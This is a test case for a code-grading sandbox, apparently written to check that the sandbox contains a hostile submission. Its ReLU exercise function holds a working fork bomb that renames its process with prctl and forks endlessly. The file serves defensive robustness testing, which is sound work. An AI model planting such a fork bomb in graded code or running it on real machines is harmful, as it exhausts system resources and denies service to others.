# attack: a fork bomb inside the graded function (every child forks again, forever)
# exercise: exercise2
# expect: timeout|error|crashed|memory
# host: no_leftovers
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    # --- attack ---
    import ctypes
    import os
    import signal

    ctypes.CDLL(None).prctl(15, b"{{MARK}}", 0, 0, 0)  # PR_SET_NAME: the host can find us
    print("bomb armed", flush=True)
    while True:
        try:
            if os.fork() == 0:
                signal.alarm(30)  # a bound of its own, should the sandbox fail to end it
        except OSError:
            pass
    # --- end attack ---
    return ReLU.apply(x)
